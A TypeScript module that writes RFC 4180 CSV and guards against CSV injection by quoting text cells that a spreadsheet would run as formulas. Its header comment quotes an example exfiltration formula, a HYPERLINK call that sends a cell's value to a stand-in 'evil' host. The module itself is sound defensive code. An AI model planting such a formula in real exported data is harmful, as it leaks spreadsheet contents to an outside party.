// CSV as RFC 4180 writes it (https://www.rfc-editor.org/rfc/rfc4180): fields separated by commas,
// records by CRLF; a field holding a comma, a double quote, CR or LF is wrapped in double quotes and
// its double quotes doubled.
//
// CSV injection: a spreadsheet treats a text cell that starts with `=`, `+`, `-` or `@` (or a tab or
// CR before one) as a formula, and paths, function names and model ids come from the scanned code,
// which anyone can write (`=HYPERLINK("http://evil/?"&A1,"click")`). Such a text cell gets a leading
// single quote, as OWASP advises (https://owasp.org/www-community/attacks/CSV_Injection): spreadsheets
// then show it as text, and the original is the cell minus that first `'`. Numbers are written by
// `decimal` below and never start with those characters (no sign: every figure here is >= 0), so
// they are left alone and stay numbers.

/** A cell: text (neutralised and quoted as needed), a number, a boolean, or null (empty). */
export type CsvCell = string | number | boolean | null | undefined;

const FORMULA_START = /^[=+\-@\t\r]/;

/** Text that a spreadsheet would not run as a formula. */
export function neutraliseFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

// Up to 15 significant digits (what a double holds exactly), never an exponent: FOCUS's Numeric
// Format forbids exponents, and `String(1e-7)` is "1e-7".
const DECIMAL = new Intl.NumberFormat('en-US', { useGrouping: false, maximumSignificantDigits: 15 });

/** A number as a plain decimal (`0.0000001`, `10791.36`), without exponent or grouping. */
export function decimal(n: number): string {
  if (!Number.isFinite(n)) throw new RangeError(`not a finite number: ${n}`);
  if (n === 0) return '0'; // also -0
  return DECIMAL.format(n);
}

function field(cell: CsvCell): string {
  if (cell === null || cell === undefined) return '';
  // Not a figure (Infinity, NaN): empty, as an unknown one is, rather than no export at all.
  if (typeof cell === 'number') return Number.isFinite(cell) ? decimal(cell) : '';
  if (typeof cell === 'boolean') return cell ? 'true' : 'false';
  const text = neutraliseFormula(cell);
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** A header and rows as CSV text, each record ending in CRLF. */
export function writeCsv(header: readonly string[], rows: readonly (readonly CsvCell[])[]): string {
  return [header, ...rows].map((r) => r.map(field).join(',') + '\r\n').join('');
}
